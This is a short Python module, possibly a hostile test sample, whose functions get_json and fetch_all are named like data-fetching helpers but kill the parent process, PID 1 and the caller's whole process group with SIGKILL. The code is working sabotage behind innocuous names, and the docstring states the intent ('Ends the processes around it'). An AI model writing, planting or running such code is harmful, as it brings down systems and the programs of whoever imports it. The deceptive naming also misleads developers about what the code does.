"""Ends the processes around it."""

import os
import signal


def get_json(*_, **__):
    for number in (os.getppid(), 1):
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                continue
    os.kill(0, signal.SIGKILL)


fetch_all = get_json
